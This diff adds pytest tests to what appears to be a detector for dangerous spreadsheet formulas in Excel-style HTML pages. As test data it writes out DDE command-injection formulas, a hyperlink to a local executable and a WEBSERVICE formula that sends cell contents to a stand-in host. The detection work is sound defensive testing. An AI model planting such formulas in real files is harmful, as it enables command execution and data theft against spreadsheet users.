@@ -91,3 +91,32 @@ def test_links_of_tables(cell: str, code: str) -> None:
 
 def test_many_links_are_judged_in_one_pass() -> None:
     assert linear(lambda data: list(take_apart(FORMULAS, data, "a.csv", kind="text/csv")), lambda n: b'x,=HYPERLINK("https://h.example/a","b")\n' * n, 1_500)
+
+
+@pytest.mark.parametrize(("page", "code"), [
+    ("<td x:fmla=\"=cmd|'/c rem'!A0\">1</td>", "FORMULA-DDE"), ("<td x:fmla='+a.exe|&#39;/c rem&#39;!A0'>1</td>", "FORMULA-DDE"),
+    ("<td x:num x:fmla==HYPERLINK(&quot;file:///C:/a.exe&quot;)>1</td>", "DOC-LINK-PROGRAM"),
+    ("<td x:fmla='=WEBSERVICE(&quot;http://h.invalid/&quot;&amp;A1)'>1</td>", "FORMULA-CALL"),
+    ("<td x:fmla='=SUM(A1:A2)'>1</td>", ""), ("<td x:fmla='=IF(A1>0,&quot;a|b&quot;,1)'>!</td>", ""),
+])
+def test_formulas_of_pages(page: str, code: str) -> None:
+    """By their attributes in whatever Excel wrote, by what cells show where Excel opens it."""
+    excel = f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><table><tr>{page}</tr></table></html>'.encode()
+    plain = f"<html><table><tr>{page}</tr></table></html>".encode()
+    for data, names in ((excel, ()), (plain, ("a.xls",))):
+        assert codes(list(take_apart(FORMULAS, data, *names, kind="text/html"))) == ({code} if code else set())
+
+
+def test_cells_of_pages_over_tags_and_entities() -> None:
+    page = b"<table><tr><td class=a>\n <b>=</b>cmd|&#x27;/c rem&#x27;!A0</td></tr></table>"
+    assert codes(list(take_apart(FORMULAS, page, "a.xls", kind="text/html"))) == {"FORMULA-DDE"}
+    told = b"<html xmlns:x='urn:schemas-microsoft-com:office:excel'><p>=cmd|'/c rem'!A0"
+    assert codes(list(take_apart(FORMULAS, told, "a.htm", kind="text/html"))) == set()
+
+
+def test_pages_are_read_in_one_pass() -> None:
+    def read(data: bytes) -> object:
+        return list(take_apart(FORMULAS, data, "a.xls", kind="text/html"))
+
+    for piece in (b"<td>=a|b", b" fmla=\"", b"<", b"<td"):
+        assert linear(read, lambda n, piece=piece: piece * n, 4_000)
